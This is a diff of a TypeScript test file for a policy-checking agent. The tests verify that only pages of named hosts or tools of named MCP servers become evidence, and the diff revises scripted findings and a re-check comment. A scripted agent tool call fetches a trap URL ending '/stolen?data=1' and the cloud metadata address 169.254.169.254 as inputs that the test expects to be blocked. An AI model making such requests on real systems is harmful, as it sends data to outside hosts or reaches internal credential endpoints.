@@ -50,7 +50,10 @@ test('pages of the hosts that the agent names become evidence; no other host is 
   const { model, agent } = await cases.newCase('ProductPolicyEngine', { context_sources: [`http://${host}`] });
   const tools = (...urls: string[]) => ({ tools: urls.map((url) => ({ name: 'fetch_page', input: { url } })) });
   const findings = [
-    { ...claim('R1', true, ''), evidence: quote('Blade Ltd was dissolved', '$REF_2$') },
+    {
+      ...claim('R1', false, ''),
+      evidence: [...quote('Sharp weapons for hunters.'), ...quote('Blade Ltd was dissolved', '$REF_2$')],
+    },
     ...good.findings.slice(1),
   ];
   await cases.models.script(
@@ -58,8 +61,8 @@ test('pages of the hosts that the agent names become evidence; no other host is 
     tools(`http://${host}/company`, `${trapUrl}/stolen?data=1`, 'http://169.254.169.254/', `http://${host}/away`),
     { text: 'done' },
     { json: { findings } },
-    // What is quoted does not speak of weapons by its words: the model is asked again, and confirms it.
-    { json: { looks: [{ rule: 'R1', shows: true, reasoning: 'It does.' }] } },
+    // A passage has the words of the rule: the model is asked about it again, and stays with its answer.
+    { json: { looks: [{ rule: 'R1', shows: false, reasoning: 'It does not.' }] } },
     { json: rejected },
   );
   const { job, output, result } = await cases.run(agent.id);
@@ -147,7 +150,8 @@ const answered = (call: any) =>
 
 test('a tool of an MCP server that the agent names is asked and becomes evidence; the others are not offered', async () => {
   const { model, agent } = await cases.newCase('ProductPolicyEngine', { context_sources: ['tool:sky_weather'] });
-  const findings = [claim('R1', true, 'Sunny in Rome, says the register.', '$REF_2$'), ...good.findings.slice(1)];
+  const evidence = [...quote('Sharp weapons for hunters.'), ...quote('Sunny in Rome, says the register.', '$REF_2$')];
+  const findings = [{ ...claim('R1', false, ''), evidence }, ...good.findings.slice(1)];
   await cases.models.script(
     model,
     {
@@ -158,8 +162,8 @@ test('a tool of an MCP server that the agent names is asked and becomes evidence
     },
     { text: 'done' },
     { json: { findings } },
-    // What is quoted does not speak of weapons by its words: the model is asked again, and confirms it.
-    { json: { looks: [{ rule: 'R1', shows: true, reasoning: 'It does.' }] } },
+    // A passage has the words of the rule: the model is asked about it again, and stays with its answer.
+    { json: { looks: [{ rule: 'R1', shows: false, reasoning: 'It does not.' }] } },
     { json: rejected },
   );
   const { job, result } = await cases.run(agent.id);
